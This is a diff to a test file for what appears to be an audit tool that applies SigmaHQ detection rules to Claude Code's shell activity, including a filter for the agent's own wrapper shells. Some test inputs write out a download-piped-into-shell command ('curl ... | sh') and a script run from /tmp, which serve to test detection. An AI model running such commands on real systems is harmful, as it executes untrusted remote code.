@@ -274,8 +274,9 @@ SHIPPED = load_files(list(SHIPPED_GLOBS))
 
 def test_every_shipped_rule_loads_or_is_refused_with_a_reason() -> None:
     """All 122 SigmaHQ Linux process_creation rules are accounted for: 120 load, and the two refused
-    use LogonId and CurrentDirectory, which the exec record cannot give."""
-    assert SHIPPED.files == 122
+    use LogonId and CurrentDirectory, which the exec record cannot give (the 123rd file holds the
+    shipped Sigma filter for Claude Code's own shells)."""
+    assert SHIPPED.files == 123
     assert len(SHIPPED.ruleset) + len(SHIPPED.refused) == 122
     assert len(SHIPPED.ruleset) == 120
     assert sorted(r.title or "" for r in SHIPPED.refused) == [
@@ -373,3 +374,70 @@ def test_hostile_long_command_line_stays_linear() -> None:
     """A 1 MiB command line shaped to hurt backtracking engines is checked against the whole pack."""
     values = _ev("/usr/bin/bash", "-W " + "41 " * 350_000 + "\t" + "a" * 100)
     SHIPPED.ruleset.match(values)
+
+
+def test_readme_example_rule_works() -> None:
+    """The rule README.md shows for rules.d compiles and fires on a download piped into a shell."""
+    from pathlib import Path
+
+    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text()
+    text = readme.split("```yaml\n", 1)[1].split("```", 1)[0]
+    got, refused, _ = load_text(text, "README.md")
+    assert refused == [] and len(got) == 1
+    rs = RuleSet(got)
+    assert rs.match(
+        _ev("/usr/bin/sh", "sh", ParentCommandLine="bash -c curl -s http://x/i.sh | sh", ClaudeOrigin="tool")
+    )
+    assert not rs.match(
+        _ev(
+            "/usr/bin/sh",
+            "sh",
+            ParentCommandLine="bash -c curl -s http://x/i.sh | sh",
+            ClaudeOrigin="internal",
+        )
+    )
+
+
+def test_shipped_filter_spares_claude_codes_wrapper_shell_only() -> None:
+    """SigmaHQ's "script from /tmp" rule does not fire on the Bash tool's wrapper shell (depth 0) nor on
+    Claude Code's internal shells, but still fires on a `bash -c .../tmp/...` the agent's command runs."""
+    rule = next(r for r in SHIPPED.ruleset.rules if r.id == "30bcce26-51c5-49f2-99c8-7b59e3af36c7")
+    wrapper = _ev(
+        "/bin/bash", "/bin/bash -c source s && eval 'ls' < /dev/null && pwd -P >| /tmp/claude-a-cwd"
+    )
+    assert rule not in SHIPPED.ruleset.match(wrapper | {"ClaudeOrigin": "tool", "ClaudeInvocationDepth": "0"})
+    assert rule not in SHIPPED.ruleset.match(wrapper | {"ClaudeOrigin": "internal"})
+    agents = _ev("/bin/bash", "bash -c /tmp/x/run.sh")
+    assert rule in SHIPPED.ruleset.match(agents | {"ClaudeOrigin": "tool", "ClaudeInvocationDepth": "1"})
+    assert rule in SHIPPED.ruleset.match(agents)
+
+
+def test_filters_apply_across_files_to_the_rules_they_name() -> None:
+    """A Sigma filter in one file narrows the named rule of another file, and no other rule."""
+    from claude_audit.rules import compile_parsed, parse_text
+
+    one = _rule("sel:\n    Image|endswith: /curl\ncondition: sel\n")
+    other = one.replace("00000000-0000-4000-8000-000000000001", "00000000-0000-4000-8000-000000000002")
+    flt = textwrap.dedent(
+        """\
+        title: no curl to localhost
+        id: 00000000-0000-4000-8000-0000000000f1
+        logsource:
+            category: process_creation
+            product: linux
+        filter:
+            rules:
+                - 00000000-0000-4000-8000-000000000001
+            local:
+                CommandLine|contains: localhost
+            condition: not local
+        """
+    )
+    got, refused, _ = compile_parsed(
+        [parse_text(one, "a.yml"), parse_text(other, "b.yml"), parse_text(flt, "f.yml")]
+    )
+    assert refused == []
+    rs = RuleSet(got)
+    ids = [r.id[-1] for r in rs.match(_ev("/usr/bin/curl", "curl http://localhost/"))]
+    assert ids == ["2"]
+    assert [r.id[-1] for r in rs.match(_ev("/usr/bin/curl", "curl http://h/"))] == ["1", "2"]
